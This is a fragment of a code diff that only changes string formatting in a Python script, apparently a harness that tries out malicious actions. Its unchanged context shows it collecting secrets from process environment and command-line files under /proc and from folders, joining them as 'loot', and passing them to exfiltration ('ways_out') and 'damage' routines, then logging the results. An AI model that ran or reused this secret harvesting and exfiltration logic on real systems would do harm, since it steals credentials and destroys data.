@@ -51,7 +51,7 @@ def places():
     for number in os.listdir("/proc"):
         if number.isdigit():
             for part in ("environ", "cmdline"):
-                yield "/proc/%s/%s" % (number, part)
+                yield f"/proc/{number}/{part}"
     for root in AIM["folders"]:
         for folder, folders, files in os.walk(root):
             folders[:] = folders[:50]
@@ -180,7 +180,7 @@ def main():
     """Try all of it and leave the evidence."""
     done = []
     loot = stolen()
-    words = ("%s %s" % (LABEL, " ".join(loot))).encode()
+    words = ("{} {}".format(LABEL, " ".join(loot))).encode()
     for name, work in (*ways_out(words), *damage()):
         attempt(done, name, work)
     evidence = {
